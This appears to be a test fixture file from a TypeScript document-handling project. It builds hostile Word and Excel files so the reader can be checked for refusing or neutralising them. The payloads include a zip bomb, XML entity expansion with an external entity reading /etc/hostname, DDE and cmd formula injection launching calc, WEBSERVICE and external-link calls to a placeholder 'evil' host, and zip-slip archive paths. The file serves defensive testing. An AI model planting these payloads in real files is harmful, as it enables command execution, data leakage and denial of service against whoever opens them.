import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import type { UnreadableReason } from '../../src/files';
import type { TemplateFault } from '../../src/files/docx-template/unusable-template';
import { compoundFile } from './compound-file';

/** What somebody who means no good, or a broken disk, may hand in instead of a file. */
export interface Harm {
  readonly name: string;
  /** Of a good file the bad one. */
  make(good: Uint8Array): Uint8Array;
  /** Why it is refused; null where it is read, and what is bad in it left alone. */
  readonly refused: UnreadableReason | null;
  /** Of a template, where that is another reason. */
  readonly template?: TemplateFault;
}

type Parts = Record<string, Uint8Array>;

/** The part with what is printed, and the one that says what it refers to. */
function partsOf(good: Uint8Array) {
  const parts: Parts = unzipSync(good);
  const isWorkbook = 'xl/workbook.xml' in parts;
  return {
    parts,
    isWorkbook,
    main: isWorkbook ? 'xl/worksheets/sheet1.xml' : 'word/document.xml',
    links: isWorkbook ? 'xl/_rels/workbook.xml.rels' : 'word/_rels/document.xml.rels',
  };
}

function withMain(good: Uint8Array, change: (xml: string, isWorkbook: boolean) => string) {
  const { parts, main, isWorkbook } = partsOf(good);
  const xml = change(strFromU8(parts[main] ?? new Uint8Array()), isWorkbook);
  return zipSync({ ...parts, [main]: strToU8(xml) }, { level: 1 });
}

/** The directory of its archive says how large the part becomes; so large a one is not unpacked to see. */
function withLargePart(good: Uint8Array): Uint8Array {
  const { main } = partsOf(good);
  const bytes = Uint8Array.from(good);
  const view = new DataView(bytes.buffer);
  const name = strToU8(main);
  for (let at = 0; at < bytes.length - 46; at += 1) {
    const isEntry = view.getUint32(at, true) === 0x02014b50;
    const isNamed = isEntry && name.every((byte, index) => bytes[at + 46 + index] === byte);
    if (isNamed) view.setUint32(at + 24, 100_000_000, true);
  }
  return bytes;
}

function withLinks(good: Uint8Array, link: string): Uint8Array {
  const { parts, links } = partsOf(good);
  const xml = strFromU8(parts[links] ?? new Uint8Array());
  return zipSync({ ...parts, [links]: strToU8(xml.replace('</Relationships>', `${link}$&`)) });
}

function withMacros(good: Uint8Array): Uint8Array {
  const { parts, isWorkbook } = partsOf(good);
  const types = strFromU8(parts['[Content_Types].xml'] ?? new Uint8Array());
  return zipSync({
    ...parts,
    '[Content_Types].xml': strToU8(
      types
        .replace('spreadsheetml.sheet.main', 'sheet.macroEnabled.main')
        .replace('wordprocessingml.document.main', 'document.macroEnabled.main'),
    ),
    [`${isWorkbook ? 'xl' : 'word'}/vbaProject.bin`]: Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0]),
  });
}

export const elsewhere = 'http://example.invalid/evil';

/** Commands that Excel or Word would carry out when asked to calculate. */
const commands = {
  workbook: `<row r="900"><c r="A900" t="str"><f>cmd|'/c calc'!A0</f><v>x</v></c><c r="B900" t="str"><f>WEBSERVICE("${elsewhere}")</f><v>x</v></c></row>`,
  document: `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
};

const entities =
  '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/hostname">]>';

export const harms: readonly Harm[] = [
  {
    name: 'a zip bomb',
    make: (good) =>
      zipSync({ ...partsOf(good).parts, [partsOf(good).main]: new Uint8Array(9_000_000).fill(32) }),
    refused: 'hostile',
  },
  {
    name: 'entities of XML',
    make: (good) => withMain(good, (xml) => xml.replace(/^(<\?xml[^>]*\?>)?/, `$1${entities}`)),
    refused: 'hostile',
  },
  {
    name: 'elements in elements',
    make: (good) =>
      withMain(good, (_, isWorkbook) => {
        const root = isWorkbook ? 'worksheet' : 'document';
        return `<${root}>${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}</${root}>`;
      }),
    refused: 'hostile',
  },
  {
    name: 'a part of 100 MB',
    make: withLargePart,
    refused: 'tooLarge',
  },
  {
    name: 'a file of more than 30 MB',
    make: (good) =>
      zipSync(
        { ...partsOf(good).parts, 'media/picture.png': new Uint8Array(31_000_000) },
        { level: 0 },
      ),
    refused: 'tooLarge',
  },
  {
    name: 'a truncated file',
    make: (good) => good.subarray(0, good.length / 2),
    refused: 'damaged',
  },
  {
    name: 'nothing',
    make: () => new Uint8Array(),
    refused: 'empty',
  },
  {
    name: 'a password',
    make: () => compoundFile('EncryptionInfo', 'EncryptedPackage'),
    refused: 'encrypted',
  },
  {
    name: 'macros',
    make: withMacros,
    refused: null,
    template: 'macros',
  },
  {
    name: 'links to other files',
    make: (good) =>
      withLinks(
        good,
        `<Relationship Id="evil" Type="x/externalLink" Target="${elsewhere}" TargetMode="External"/>` +
          `<Relationship Id="evil2" Type="x/attachedTemplate" Target="${elsewhere}.dotm" TargetMode="External"/>`,
      ),
    refused: null,
  },
  {
    name: 'formulas that are commands',
    make: (good) =>
      withMain(good, (xml, isWorkbook) =>
        isWorkbook
          ? xml.replace('</sheetData>', `${commands.workbook}$&`)
          : xml.replace('<w:body>', `$&${commands.document}`),
      ),
    refused: null,
  },
  {
    name: 'names that lead out of the archive',
    make: (good) =>
      zipSync({
        ...partsOf(good).parts,
        '../../evil.xlsx': strToU8('x'),
        'C:\\evil.exe': strToU8('x'),
        '/etc/evil': strToU8('x'),
      }),
    refused: null,
  },
];

/** What by its name is something else: what it is, and what it is called. */
export const wrongNames: readonly (readonly [name: string, file: string, bytes: Uint8Array])[] = [
  ['a PDF file', 'a.docx', strToU8('%PDF-1.7')],
  ['a text', 'a.xlsx', strToU8('项目\t预算数\n甲\t1')],
  [
    'a picture',
    'a.xlsx',
    Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]),
  ],
  ['a program', 'a.docx', Uint8Array.from([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff])],
  [
    'an archive of something else',
    'a.xlsx',
    zipSync({ 'a.bin': Uint8Array.from([1, 2, 3, 0xff]) }),
  ],
];
